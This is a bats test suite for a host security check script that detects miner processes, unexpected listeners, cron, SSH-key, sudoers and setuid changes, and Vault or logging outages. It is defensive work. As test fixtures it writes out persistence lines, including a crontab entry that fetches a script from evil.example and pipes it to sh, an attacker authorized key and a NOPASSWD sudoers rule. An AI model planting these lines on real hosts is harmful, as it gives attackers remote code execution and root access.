#!/usr/bin/env bats
# Tests for deploy/host/secdr-degraded-check.sh against real processes, sockets and HTTP(S) servers.
# Run: bats deploy/host/test

# PORT is set by start_endpoints (helpers.bash); single-quoted bash -c scripts expand in the child.
# shellcheck disable=SC2016,SC2153

load helpers

setup_file() {
  make_tls "$BATS_FILE_TMPDIR"
}

setup() {
  common_setup
}

teardown() {
  common_teardown
}

# ---- usage and configuration ----------------------------------------------------------------------

@test "--help documents the options and the exit codes" {
  run bash "$CHECK" --help
  assert_status 0
  assert_output_contains "--dry-run"
  assert_output_contains "--baseline"
  assert_output_contains "0  healthy"
  assert_output_contains "1  findings present"
  assert_output_contains "2  usage or configuration error"
}

@test "an unknown option is a usage error (exit 2)" {
  run bash "$CHECK" --frobnicate
  assert_status 2
  assert_output_contains "unknown argument: --frobnicate"
}

@test "a missing --config file is a configuration error (exit 2)" {
  run bash "$CHECK" --config "$T/nope.conf"
  assert_status 2
  assert_output_contains "does not exist"
}

@test "a config file writable by others is refused, since it is sourced as code (exit 2)" {
  write_config
  chmod 0666 "$T/secdr.conf"
  run_check
  assert_status 2
  assert_output_contains "writable by group or others"
}

@test "a malformed allowlist line is a configuration error naming the line (exit 2)" {
  write_config
  printf '22\nnot-a-port\n' >"$T/listeners.allow"
  run_check
  assert_status 2
  assert_output_contains "line 2: 'not-a-port'"
}

@test "a plain-http Vault URL is refused: the server could not be verified (exit 2)" {
  write_config 'CHECKS="vault"' 'VAULT_HEALTH_URL=http://127.0.0.1:8200/v1/sys/health'
  run_check
  assert_status 2
  assert_output_contains "VAULT_HEALTH_URL must be an https:// URL"
}

@test "an invalid PROCESS_PATTERN is a configuration error (exit 2)" {
  write_config 'PROCESS_PATTERN="(xmrig"'
  run_check
  assert_status 2
  assert_output_contains "not a valid extended regular expression"
}

# ---- a healthy host ----------------------------------------------------------------------------

@test "a healthy host (fresh baseline, allowlisted listeners, Vault and logging up) raises no alert" {
  start_endpoints vault --tls-cert "$BATS_FILE_TMPDIR/server.pem" --tls-key "$BATS_FILE_TMPDIR/server.key"
  local vault_port=$PORT
  start_endpoints webhook --record-dir "$T/bodies"
  local webhook_port=$PORT
  printf '# the fake Vault and log endpoint\ntcp/127.0.0.1:%s\n%s\n' "$vault_port" "$webhook_port" >"$T/listeners.allow"
  allow_host_listeners
  write_config 'CHECKS="processes listeners files vault logging"' \
    "VAULT_HEALTH_URL='https://127.0.0.1:$vault_port/v1/sys/health?standbyok=true'" \
    "VAULT_CACERT='$BATS_FILE_TMPDIR/ca.pem'" \
    "LOG_READY_URL='https://127.0.0.1:$vault_port/ready'" \
    "LOG_CACERT='$BATS_FILE_TMPDIR/ca.pem'" \
    "EMERGENCY_WEBHOOK_URL='http://127.0.0.1:$webhook_port/hook'"

  run_check --baseline
  assert_status 0
  assert_output_contains "baseline of 5 files written"

  run_check
  assert_status 0
  assert_output_contains "0 finding(s), 0 new"
  assert_file_lines "$T/alerts.log" 0
  [[ ! -e $T/state/outbox ]]
  [[ -z $(ls -A "$T/bodies") ]]
}

# ---- processes ---------------------------------------------------------------------------------

@test "a real process renamed to a known miner name is reported as CRITICAL with its pid and command line" {
  cp /bin/sleep "$T/bin/xmrig"
  start_bg miner "$T/bin/xmrig" 300
  local pid=$LAST_PID
  write_config 'CHECKS="processes"'

  run_check
  assert_status 1
  assert_output_contains "NEW   CRITICAL process: suspicious process (matches PROCESS_PATTERN): pid=$pid comm=xmrig exe=$T/bin/xmrig"
  assert_file_lines "$T/alerts.log" 1
  assert_file_contains "$T/alerts.log" "test-host CRITICAL process: suspicious process (matches PROCESS_PATTERN): pid=$pid comm=xmrig"
}

@test "a finding is reported once, not on every run" {
  cp /bin/sleep "$T/bin/xmrig"
  start_bg miner "$T/bin/xmrig" 300
  write_config 'CHECKS="processes"'

  run_check
  assert_status 1
  run_check
  assert_status 1
  assert_output_contains "known CRITICAL process:"
  assert_output_contains "1 finding(s), 0 new"
  run_check
  assert_status 1
  assert_file_lines "$T/alerts.log" 1
}

@test "a process whose command line (not its name) matches is reported" {
  start_bg miner bash -c 'exec -a "$0" sleep 300' "worker --url stratum+tcp://pool.example:3333"
  write_config 'CHECKS="processes"'

  run_check
  assert_status 1
  assert_output_contains "comm=sleep"
  assert_output_contains 'cmdline="worker --url stratum+tcp://pool.example:3333 300"'
}

# ---- listeners ---------------------------------------------------------------------------------

@test "an unexpected TCP listener is reported with its process; allowlisted listeners are not" {
  local allowed unexpected
  allowed=$(free_port)
  start_bg allowed python3 -m http.server --bind 127.0.0.1 "$allowed"
  wait_for_listener tcp "$allowed"
  unexpected=$(free_port)
  start_bg unexpected python3 -m http.server --bind 127.0.0.1 "$unexpected"
  wait_for_listener tcp "$unexpected"
  printf 'tcp/127.0.0.1:%s  # the expected one\n' "$allowed" >"$T/listeners.allow"
  allow_host_listeners
  write_config 'CHECKS="listeners"'

  run_check
  assert_status 1
  assert_output_contains "NEW   WARNING  listeners: unexpected tcp listener on 127.0.0.1:$unexpected"
  assert_output_contains '"python3"'
  assert_output_contains "1 finding(s), 1 new"
}

@test "a UDP listener is checked too, and an allowlist entry for the wildcard address does not cover it" {
  local port
  port=$(free_port)
  start_bg udp python3 -c 'import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", int(sys.argv[1])))
time.sleep(300)' "$port"
  wait_for_listener udp "$port"
  printf 'tcp/%s\nudp/0.0.0.0:%s\n' "$port" "$port" >"$T/listeners.allow"
  allow_host_listeners
  write_config 'CHECKS="listeners"'

  run_check
  assert_status 1
  assert_output_contains "unexpected udp listener on 127.0.0.1:$port"

  printf 'udp/127.0.0.1:%s\n' "$port" >"$T/listeners.allow"
  allow_host_listeners
  run_check
  assert_status 0
}

# ---- files against the baseline --------------------------------------------------------------------

@test "a changed cron file is reported as changed with old and new sha256" {
  write_config 'CHECKS="files"'
  run_check --baseline
  assert_status 0
  local before after
  before=$(sha256sum "$T/etc/crontab" | cut -d' ' -f1)
  echo '*/5 * * * * root curl -s http://evil.example/x.sh | sh' >>"$T/etc/crontab"
  after=$(sha256sum "$T/etc/crontab" | cut -d' ' -f1)

  run_check
  assert_status 1
  assert_output_contains "NEW   WARNING  files: cron file changed: $T/etc/crontab (sha256 $before -> $after)"
  assert_file_lines "$T/alerts.log" 1
}

@test "added and removed cron files are reported" {
  write_config 'CHECKS="files"'
  run_check --baseline
  echo '* * * * * root /tmp/.x' >"$T/etc/cron.d/persist"
  rm "$T/etc/cron.d/backup"

  run_check
  assert_status 1
  assert_output_contains "cron file added: $T/etc/cron.d/persist"
  assert_output_contains "cron file removed: $T/etc/cron.d/backup"
}

@test "a new authorized key is reported as CRITICAL" {
  write_config 'CHECKS="files"'
  run_check --baseline
  echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKey mallory@evil' >>"$T/home/alice/.ssh/authorized_keys"
  mkdir -p "$T/home/bob/.ssh"
  echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ bob@new' >"$T/home/bob/.ssh/authorized_keys"

  run_check
  assert_status 1
  assert_output_contains "NEW   CRITICAL files: authorized_keys file changed: $T/home/alice/.ssh/authorized_keys"
  assert_output_contains "NEW   CRITICAL files: authorized_keys file added: $T/home/bob/.ssh/authorized_keys"
}

@test "a sudoers drop-in and a new setuid binary are reported as CRITICAL" {
  write_config 'CHECKS="files"'
  run_check --baseline
  echo 'mallory ALL=(ALL) NOPASSWD: ALL' >"$T/etc/sudoers.d/90-mallory"
  cp /bin/true "$T/sbin/rootshell"
  chmod 4755 "$T/sbin/rootshell"
  cp /bin/true "$T/sbin/not-setuid"

  run_check
  assert_status 1
  assert_output_contains "CRITICAL files: sudoers file added: $T/etc/sudoers.d/90-mallory"
  assert_output_contains "CRITICAL files: setuid file added: $T/sbin/rootshell"
  [[ $output != *not-setuid* ]]
}

@test "a finding that disappears and comes back is reported again" {
  write_config 'CHECKS="files"'
  run_check --baseline
  cp "$T/etc/crontab" "$T/crontab.orig"
  echo '* * * * * root /tmp/.x' >>"$T/etc/crontab"
  run_check
  assert_status 1
  cp "$T/crontab.orig" "$T/etc/crontab"
  run_check
  assert_status 0
  echo '* * * * * root /tmp/.x' >>"$T/etc/crontab"
  run_check
  assert_status 1
  assert_output_contains "NEW   WARNING  files: cron file changed"
  assert_file_lines "$T/alerts.log" 2
}

@test "--baseline overwrites the baseline: an accepted change is no longer reported" {
  write_config 'CHECKS="files"'
  run_check --baseline
  echo '30 2 * * * root /usr/local/bin/rotate' >"$T/etc/cron.d/rotate"
  run_check
  assert_status 1
  run_check --baseline
  assert_status 0
  run_check
  assert_status 0
}

@test "lists in the config may also be space-separated strings, and an empty string disables one" {
  write_config 'CHECKS="files"'
  # replace the array forms of the base config (a string assigned to an array sets element 0 only)
  sed -i -e '/^CRON_PATHS=/d' -e '/^SETUID_DIRS=/d' "$T/secdr.conf"
  printf 'CRON_PATHS="%s %s"\nSETUID_DIRS=""\n' "$T/etc/crontab" "$T/etc/cron.d" >>"$T/secdr.conf"
  run_check --baseline
  assert_status 0
  assert_output_contains "baseline of 4 files written"
  [[ $(cut -f1 "$T/state/baseline.tsv" | grep -c '^setuid') == 0 ]]
}

@test "a missing baseline is itself a finding, not a silent pass" {
  write_config 'CHECKS="files"'
  run_check
  assert_status 1
  assert_output_contains "no baseline at $T/state/baseline.tsv"
}

# ---- Vault -------------------------------------------------------------------------------------

@test "a sealed Vault (503 over verified TLS) is reported as CRITICAL" {
  start_endpoints vault --health-status 503 \
    --tls-cert "$BATS_FILE_TMPDIR/server.pem" --tls-key "$BATS_FILE_TMPDIR/server.key"
  write_config 'CHECKS="vault"' "VAULT_HEALTH_URL='https://127.0.0.1:$PORT/v1/sys/health'" \
    "VAULT_CACERT='$BATS_FILE_TMPDIR/ca.pem'"

  run_check
  assert_status 1
  assert_output_contains "NEW   CRITICAL vault: Vault is sealed (https://127.0.0.1:$PORT/v1/sys/health answered 503)"
}

@test "a Vault certificate not signed by VAULT_CACERT fails verification and is reported" {
  start_endpoints vault --tls-cert "$BATS_FILE_TMPDIR/server.pem" --tls-key "$BATS_FILE_TMPDIR/server.key"
  write_config 'CHECKS="vault"' "VAULT_HEALTH_URL='https://127.0.0.1:$PORT/v1/sys/health'" \
    "VAULT_CACERT='$BATS_FILE_TMPDIR/other-ca.pem'"

  run_check
  assert_status 1
  assert_output_contains "Vault TLS verification failed for https://127.0.0.1:$PORT/v1/sys/health (curl exit 60"
}

@test "an unreachable Vault is reported" {
  local port
  port=$(free_port)
  write_config 'CHECKS="vault"' "VAULT_HEALTH_URL='https://127.0.0.1:$port/v1/sys/health'" \
    "VAULT_CACERT='$BATS_FILE_TMPDIR/ca.pem'"

  run_check
  assert_status 1
  assert_output_contains "Vault health check failed for https://127.0.0.1:$port/v1/sys/health (curl exit 7"
}

# ---- the emergency channel -------------------------------------------------------------------

@test "the pure-bash JSON encoder escapes quotes, backslashes and every control character" {
  local input=$'quote " backslash \\ tab \t newline \n cr \r bell \a esc \e del \x7f end'
  run bash -c 'source "$1"; json_string "$2"; printf "%s" "$REPLY"' _ "$CHECK" "$input"
  assert_status 0
  run python3 -c 'import json, sys; got = json.loads(sys.argv[1]); assert got == sys.argv[2], (got, sys.argv[2])' \
    "$output" "$input"
  assert_status 0
  # bytes outside ASCII are not guaranteed UTF-8: they become '?', so the JSON stays valid
  run bash -c 'source "$1"; json_string "$2"; printf "%s" "$REPLY"' _ "$CHECK" $'caf\xc3\xa9 \xff'
  assert_status 0
  [[ $output == '"caf?? ?"' ]] || { echo "got: $output"; return 1; }
}

@test "with logging down, new alerts reach the emergency webhook as valid JSON, quotes and backslashes intact" {
  start_endpoints webhook --record-dir "$T/bodies"
  echo "http://127.0.0.1:$PORT/hook" >"$T/webhook.url"
  chmod 0600 "$T/webhook.url"
  cp /bin/sleep "$T/bin/xmrig"
  # argv[0] with double quotes and a backslash, as an attacker may choose it
  local argv0='xmrig --pool "stratum+tcp://pool.example:3333" --note C:\temp\"x'
  start_bg miner bash -c 'exec -a "$0" "$1" 300' "$argv0" "$T/bin/xmrig"
  write_config 'CHECKS="processes logging"' "LOG_READY_URL='http://127.0.0.1:$(free_port)/ready'" \
    "EMERGENCY_WEBHOOK_URL_FILE='$T/webhook.url'"

  run_check
  assert_status 1
  assert_output_contains "central log endpoint"
  [[ -f $T/bodies/1.json ]] || { echo "the webhook received nothing; output: $output"; return 1; }
  run python3 -m json.tool "$T/bodies/1.json"
  assert_status 0
  run python3 - "$T/bodies/1.json" "$argv0 300" <<'PY'
import json, sys
body = json.load(open(sys.argv[1]))
expected = 'cmdline="' + sys.argv[2] + '"'
assert body["host"] == "test-host", body
assert any(expected in a for a in body["alerts"]), (expected, body["alerts"])
assert any("central log endpoint" in a for a in body["alerts"]), body["alerts"]
assert body["text"].startswith("DEGRADED MODE ALERT from test-host"), body["text"]
assert all(a in body["text"] for a in body["alerts"]), body["text"]
PY
  assert_status 0
  [[ ! -e $T/state/outbox ]]

  # nothing new on the next run: nothing is sent again
  run_check
  assert_status 1
  [[ ! -e $T/bodies/2.json ]]
}

@test "an alert the webhook could not take is kept and delivered on the next run" {
  local log_port
  log_port=$(free_port)
  write_config 'CHECKS="files logging"' "LOG_READY_URL='http://127.0.0.1:$log_port/ready'" \
    "EMERGENCY_WEBHOOK_URL='http://127.0.0.1:$(free_port)/hook'"
  run_check --baseline
  echo '* * * * * root /tmp/.x' >>"$T/etc/crontab"

  run_check
  assert_status 1
  assert_output_contains "emergency webhook delivery failed"
  assert_file_lines "$T/state/outbox" 2

  start_endpoints webhook --record-dir "$T/bodies"
  write_config 'CHECKS="files logging"' "LOG_READY_URL='http://127.0.0.1:$log_port/ready'" \
    "EMERGENCY_WEBHOOK_URL='http://127.0.0.1:$PORT/hook'"
  run_check
  assert_status 1
  [[ ! -e $T/state/outbox ]]
  run python3 -c 'import json, sys; a = json.load(open(sys.argv[1]))["alerts"]; assert len(a) == 2, a; print(a)' \
    "$T/bodies/1.json"
  assert_status 0
  assert_output_contains "cron file changed"
}

@test "with logging up, nothing is sent to the webhook" {
  start_endpoints both --record-dir "$T/bodies"
  write_config 'CHECKS="files logging"' "LOG_READY_URL='http://127.0.0.1:$PORT/ready'" \
    "EMERGENCY_WEBHOOK_URL='http://127.0.0.1:$PORT/hook'"
  run_check --baseline
  echo '* * * * * root /tmp/.x' >>"$T/etc/crontab"

  run_check
  assert_status 1
  assert_file_lines "$T/alerts.log" 1
  [[ -z $(ls -A "$T/bodies") ]]
}

@test "--dry-run prints what it would do and writes and sends nothing" {
  start_endpoints webhook --record-dir "$T/bodies"
  write_config 'CHECKS="files logging"' "LOG_READY_URL='http://127.0.0.1:$(free_port)/ready'" \
    "EMERGENCY_WEBHOOK_URL='http://127.0.0.1:$PORT/hook'"
  run_check --baseline
  echo '* * * * * root /tmp/.x' >>"$T/etc/crontab"
  local before
  before=$(ls -A "$T/state")

  run_check --dry-run
  assert_status 1
  assert_output_contains "would append to $T/alerts.log"
  assert_output_contains "would POST to the emergency webhook"
  assert_output_contains "dry run: nothing written or sent"
  [[ ! -e $T/alerts.log ]]
  [[ $(ls -A "$T/state") == "$before" ]]
  [[ -z $(ls -A "$T/bodies") ]]
}

# ---- systemd units ----------------------------------------------------------------------------

@test "the systemd service and timer pass systemd-analyze verify and run every 5 minutes" {
  command -v systemd-analyze >/dev/null || {
    echo "systemd-analyze not found: apt-get install systemd"
    return 1
  }
  sed "s#^ExecStart=/usr/local/sbin/secdr-degraded-check #ExecStart=$CHECK #" \
    "$HOST_DIR/secdr-degraded-check.service" >"$T/secdr-degraded-check.service"
  cp "$HOST_DIR/secdr-degraded-check.timer" "$T/"
  run systemd-analyze verify "$T/secdr-degraded-check.service" "$T/secdr-degraded-check.timer"
  assert_status 0
  [[ -z $output ]] || { echo "systemd-analyze reported: $output"; return 1; }
  grep -qx 'OnBootSec=60' "$T/secdr-degraded-check.timer"
  grep -qx 'OnUnitActiveSec=300' "$T/secdr-degraded-check.timer"
  grep -qx 'RandomizedDelaySec=30' "$T/secdr-degraded-check.timer"
  grep -qx 'Type=oneshot' "$T/secdr-degraded-check.service"
  grep -qx 'NoNewPrivileges=yes' "$T/secdr-degraded-check.service"
  grep -qx 'ProtectSystem=strict' "$T/secdr-degraded-check.service"
  # nothing central may be a dependency
  if grep -E '^(Wants|Requires|After|BindsTo)=' "$T/secdr-degraded-check.service"; then
    echo "the service must not depend on other units"
    return 1
  fi
}
